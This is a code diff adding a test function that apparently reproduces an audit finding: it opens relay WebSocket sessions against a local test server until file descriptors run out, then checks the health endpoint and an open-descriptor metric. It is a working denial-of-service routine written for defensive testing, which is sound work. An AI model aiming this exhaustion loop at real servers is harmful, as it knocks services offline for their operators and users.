@@ -401,3 +401,46 @@ export async function silentSockets(
     figures: { secondsToClose: (Date.now() - started) / 1000 },
   };
 }
+
+/** Finding 9's last part: relay browsers until the server runs out of file descriptors. */
+export async function descriptorExhaustion(
+  server: AttackServer,
+  options: { browsers: number },
+): Promise<AttackOutcome> {
+  const sessions: RawSession[] = [];
+  let health = '';
+  let openFds = 0;
+  let refused = 0;
+  for (let i = 0; i < options.browsers; i += 1) {
+    try {
+      const session = await openRawSession(server.port, 'rfc6455', '/relay?draft=76');
+      sessions.push(session);
+      session.sendText(
+        JSON.stringify({ type: 'join', room: 'fds', nick: `b${i}`, client: `b${i}` }),
+      );
+    } catch {
+      // The accept itself failed: what the rest of the server may still answer is the point.
+      refused += 1;
+    }
+    if (sessions.some((s) => endingOf(s) !== 'open')) break;
+  }
+  await sleep(300);
+  // A few descriptors are free again once the failed leg is gone: enough for the questions.
+  const stillOpen = sessions.filter((s) => endingOf(s) === 'open');
+  for (const session of stillOpen.slice(-3)) session.peer.socket.destroy();
+  await sleep(200);
+  try {
+    const answer = await fetch(`${server.http}/healthz`);
+    health = `${answer.status} ${await answer.text()}`;
+    openFds = await server.metric('draftbridge_process_open_fds');
+  } catch (error) {
+    health = `unreachable: ${(error as Error).message}`;
+  }
+  const ended = tally(sessions);
+  hangUp(sessions);
+  return {
+    sent: `relay browsers until a leg could not be opened: ${sessions.length} opened, ${refused} accepts failed; /healthz then said ${health}`,
+    ended,
+    figures: { openFds, healthStatus: Number(health.slice(0, 3)) || 0 },
+  };
+}
